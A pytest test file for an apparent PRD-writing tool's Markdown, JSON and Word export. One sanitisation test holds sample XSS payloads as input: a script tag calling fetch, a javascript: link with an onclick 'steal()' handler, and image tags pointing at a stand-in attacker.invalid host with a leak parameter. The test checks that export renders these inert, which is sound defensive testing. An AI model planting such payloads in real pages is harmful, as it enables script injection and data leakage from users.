import io
import json

import pytest
from docx import Document

from prd_assistant import export
from prd_assistant.document import Draft, SectionStatus
from prd_assistant.template import load_template

DESCRIPTION = "ParcelPing sends delivery updates to shoppers by SMS and email."


def drafted() -> Draft:
    template = load_template()
    draft = Draft.from_template(template, DESCRIPTION, "ParcelPing")
    for section in draft.sections:
        section.set_text(f"Text of {section.title}.", "draft")
        section.status = SectionStatus.DONE
    overview = draft.section("overview")
    overview.set_text(
        "ParcelPing is **fast**, *simple* and uses `POST /notify`.\n\n"
        "- first bullet with **bold**\n- second bullet\n\n1. step one\n2. step two\n\n"
        "> a quoted note\n\n| Metric | Target |\n|---|---|\n| p95 latency | 300 ms |",
        "edit",
    )
    return draft


def test_markdown_keeps_every_template_heading_verbatim_and_in_order():
    template = load_template()
    text = export.to_markdown(drafted())
    positions = [text.index(spec.heading + "\n") for spec in template.sections]
    assert positions == sorted(positions)
    assert text.startswith("# ParcelPing Product Requirements Document (PRD)\n")
    assert "### Goals" not in text or "## 3. Goals & Non-Goals" in text


def test_json_round_trips_through_import():
    draft = drafted()
    draft.section("overview").locked = True
    back = export.from_json(export.to_json(draft))
    assert back.to_dict() == draft.to_dict()
    assert back.section("overview").locked is True


@pytest.mark.parametrize(
    ("payload", "message"),
    [("{not json", "not valid JSON"), (json.dumps({"hello": 1}), "not a PRD Assistant draft")],
)
def test_json_import_rejects_other_files_with_a_clear_message(payload, message):
    with pytest.raises(ValueError, match=message):
        export.from_json(payload)


def test_docx_has_template_headings_as_word_headings_and_basic_formatting():
    draft = drafted()
    doc = Document(io.BytesIO(export.to_docx(draft)))
    headings = [
        (p.style.name, p.text) for p in doc.paragraphs if p.style.name.startswith("Heading")
    ]
    assert headings[0] == ("Heading 1", "ParcelPing Product Requirements Document (PRD)")
    section_headings = [text for style, text in headings if style == "Heading 2"]
    assert section_headings == [s.heading.removeprefix("## ") for s in draft.sections]
    styles = {p.style.name for p in doc.paragraphs}
    assert {"List Bullet", "List Number", "Quote"} <= styles
    first = next(p for p in doc.paragraphs if p.text.startswith("ParcelPing is fast"))
    assert [r.text for r in first.runs if r.bold] == ["fast"]
    assert [r.text for r in first.runs if r.italic] == ["simple"]
    assert doc.tables[0].cell(1, 1).text == "300 ms"
    assert "**" not in "\n".join(p.text for p in doc.paragraphs)


def test_file_names_come_from_the_title():
    assert export.filename(drafted(), "md") == "parcelping-prd.md"


def _docx_text(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def test_blanks_survive_docx_and_real_bold_still_works():
    draft = drafted()
    draft.section("overview").set_text(
        "p95 latency ≤ __ ms for __ at __ requests/s; __bold__.", "e"
    )
    document = Document(io.BytesIO(export.to_docx(draft)))
    paragraph = next(p for p in document.paragraphs if "latency" in p.text)
    assert paragraph.text == "p95 latency ≤ __ ms for __ at __ requests/s; bold."
    assert [r.text for r in paragraph.runs if r.bold] == ["bold"]


def test_markdown_export_makes_scripts_handlers_and_remote_images_inert():
    draft = drafted()
    draft.section("overview").set_text(
        "Hi <script>fetch('http://x.invalid')</script> <a href=\"javascript:alert(1)\" "
        'onclick="steal()">l</a> ![p](http://attacker.invalid/p.png?leak=1) '
        '<img src="http://attacker.invalid/q.png" onerror=alert(1)>',
        "draft",
    )
    text = export.to_markdown(draft)
    assert "<script" not in text and "onclick" not in text and "onerror" not in text
    assert "javascript:" not in text and "<img" not in text and "![" not in text
    assert "[p](http://attacker.invalid/p.png?leak=1)" in text  # a link, loaded only on a click
    assert "[image: http://attacker.invalid/q.png]" in text


def test_register_and_clarifications_are_in_every_export():
    from prd_assistant.document import Clarification, RegisterItem

    draft = drafted()
    draft.section("overview").set_text("Open question: which SMS provider?", "draft")
    draft.register.append(RegisterItem("Who approves templates?", "Goals", owner="Legal"))
    draft.clarifications = [
        Clarification("Which regions?", "EU only", assumed=True),
        Clarification("Which channels?", "SMS and email"),
    ]
    markdown = export.to_markdown(draft)
    assert "| which SMS provider? | Overview | — | — | open | — |" in markdown
    assert "| Who approves templates? | Goals | Legal | — | open | — |" in markdown
    assert "- **Which regions?** EU only *(assumed)*" in markdown
    docx = _docx_text(export.to_docx(draft))
    assert "Who approves templates?" in docx and "EU only" in docx and "SMS and email" in docx
    data = json.loads(export.to_json(draft))
    assert data["register"][0]["owner"] == "Legal"
    assert export.from_json(export.to_json(draft)).register == draft.register


def test_dismissed_flags_follow_the_draft_once_each_and_import_back():
    from prd_assistant.dismissed import Dismissal, ids_in_text

    blank = Dismissal("Overview", "__", "placeholder", "'__' is a placeholder.", "a1")
    flags = [blank, Dismissal("Overview", "__", "placeholder", "'__' is a placeholder.", "a2")]
    markdown = export.to_markdown(drafted(), flags)
    assert markdown.count("| Overview | __ (×2) | '__' is a placeholder. | placeholder |") == 1
    assert markdown.index("## Dismissed review flags") > markdown.index("## 19.")
    assert ids_in_text(export.to_json(drafted(), flags)) == ["a1", "a2"]
    assert "dismissed_findings" not in export.to_json(drafted())
    assert "Dismissed" not in export.to_markdown(drafted())
